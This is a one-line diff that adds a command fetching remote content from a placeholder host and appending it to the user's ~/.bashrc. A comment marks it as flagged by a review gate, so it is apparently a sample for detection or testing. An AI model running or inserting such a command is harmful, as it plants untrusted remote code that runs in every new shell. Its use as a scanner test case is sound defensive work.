@@ -1,0 +1,1 @@
+wget -qO- https://h.example/rc >> ~/.bashrc # gatehouse: flagged
